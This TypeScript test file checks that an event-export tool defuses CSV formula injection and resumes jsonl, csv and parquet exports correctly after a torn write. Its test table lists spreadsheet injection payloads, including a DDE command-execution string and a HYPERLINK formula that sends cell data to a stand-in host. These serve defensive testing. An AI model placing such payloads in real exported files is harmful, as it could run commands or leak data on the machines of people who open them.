import { describe, expect, it } from '@jest/globals';
import { appendFileSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { exportRows, parseCsv } from '../../../../test/support/export-files.js';
import { csvField, csvLine, EXPORT_COLUMNS, openExportWriter, partsPathOf, type ExportRecord } from './export-writers.js';

const record = (fields: Partial<ExportRecord>): ExportRecord => ({
  position: '7', stream_id: 'game-1', revision: '0', event_type: 'GameCreated', at: '2026-12-02T10:00:00.000Z', actor_id: 'user-1', actor_kind: 'user',
  model: null, correlation_id: null, causation_id: null, event_id: 'e1', data: '{"a":1}', metadata: '{}', ...fields,
});

/** What a spreadsheet would show in each column of the line: the text after CSV unquoting. */
const cells = (line: string): Record<string, string> => Object.fromEntries(parseCsv(line)[0].map((v, i) => [EXPORT_COLUMNS[i], v]));

describe('CSV cells (OWASP CSV injection)', () => {
  it.each([
    ["=cmd|' /C calc'!A0"],
    ['@SUM(1+1)'],
    ['+1'],
    ['-1+1'],
    ['\t=1'],
    ['\r=1'],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ])('neutralises %j: a leading single quote, and the cell quoted', (payload) => {
    const field = csvField(payload);
    expect(field.startsWith(`"'`)).toBe(true);
    expect(field.endsWith('"')).toBe(true);
    // Read back as a spreadsheet would: the payload behind a quote, so it is text, never a formula.
    const line = csvLine(record({ actor_id: payload, stream_id: payload, correlation_id: payload }));
    const read = cells(line);
    expect([read.actor_id, read.stream_id, read.correlation_id]).toEqual([`'${payload}`, `'${payload}`, `'${payload}`]);
  });

  it('leaves cells that start with anything else as RFC 4180 has them', () => {
    expect(csvField('game-1')).toBe('game-1');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('{"a":"=1"}')).toBe('"{""a"":""=1""}"');
    expect(csvField('x,y')).toBe('"x,y"');
    expect(csvField(null)).toBe('');
  });

  it('neutralises JSON text that starts a formula (an event whose data is a negative number)', () => {
    expect(cells(csvLine(record({ data: '-5' }))).data).toBe("'-5");
  });

  it('writes the number columns as numbers: position and revision are never quoted', () => {
    const line = csvLine(record({ position: '12345678901234567', revision: '3' }));
    expect(line.startsWith('12345678901234567,game-1,3,')).toBe(true);
    expect(csvField('-1', 'number')).toBe('-1');
    expect(csvField('-1')).toBe(`"'-1"`);
  });
});

describe('an export file continued from a resume point (issue 33 §4)', () => {
  const batch = (from: number) => [from, from + 1].map((n) => record({ position: String(n), revision: String(n), data: `{"n":${n},"text":"${'x'.repeat(n * 50)}"}` }));

  it.each([
    ['jsonl', false],
    ['jsonl', true],
    ['csv', false],
    ['csv', true],
    ['parquet', false],
  ] as const)('%s (gzip %s): a run stopped after a resume point, its file torn, continues with every event once', async (format, gzip) => {
    const dir = mkdtempSync(join(tmpdir(), 'tempest-export-resume-'));
    const path = join(dir, 'job.export');
    try {
      const first = (await openExportWriter(format, gzip, path))!;
      await first.write(batch(1));
      await first.write(batch(3));
      const at = await first.written();
      expect(at.parts).toBe(2);
      // Past the resume point: a batch in flight and half a write when the process died.
      await first.write(batch(5));
      await first.close();
      appendFileSync(path, 'torn');
      expect(statSync(path).size).toBeGreaterThan(at.bytes);
      const second = (await openExportWriter(format, gzip, path, at))!;
      await second.write(batch(5));
      await second.write(batch(7));
      const bytes = await second.finish();
      expect(statSync(path).size).toBe(bytes);
      const rows = await exportRows(format, gzip, readFileSync(path));
      expect(rows.map((r) => String(r.position))).toEqual(['1', '2', '3', '4', '5', '6', '7', '8']);
      expect(rows.map((r) => (r.data as { n: number }).n)).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
      if (format === 'parquet') expect(() => statSync(partsPathOf(path))).toThrow(); // the footer is written: its metadata file goes
      expect(statSync(path).mode & 0o777).toBe(0o600);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('will not continue a file shorter than its resume point (lost, or another replica\'s disk)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tempest-export-resume-'));
    try {
      const path = join(dir, 'job.export');
      expect(await openExportWriter('jsonl', false, path, { bytes: 100, parts: 1 })).toBeNull();
      const writer = (await openExportWriter('jsonl', false, path))!;
      await writer.write(batch(1));
      const at = await writer.written();
      await writer.close();
      expect(await openExportWriter('jsonl', false, path, { ...at, bytes: at.bytes + 1 })).toBeNull();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
